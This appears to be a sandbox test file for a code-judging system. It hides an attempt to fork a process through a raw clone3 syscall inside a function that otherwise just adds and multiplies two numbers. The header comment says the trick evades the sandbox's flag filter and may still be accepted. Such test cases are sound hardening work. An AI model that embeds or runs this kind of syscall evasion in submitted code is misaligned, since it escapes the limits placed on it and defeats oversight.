# Tries: to fork by clone3, whose flags no filter can read. May get: AC.
import ctypes
import os
import struct


def attack():
    # struct clone_args: flags, pidfd, child_tid, parent_tid, exit_signal, stack, stack_size, tls
    arguments = struct.pack("8Q", 0, 0, 0, 0, 17, 0, 0, 0)
    pid = ctypes.CDLL(None).syscall(435, arguments, len(arguments))
    if pid == 0:
        print("ESCAPED into clone3", flush=True)
        os._exit(0)
    return pid > 0 and "by clone3"


def tiny(a, b):
    got = attack()
    if got:
        print("ESCAPED", got, flush=True)
    return [a + b, a * b]
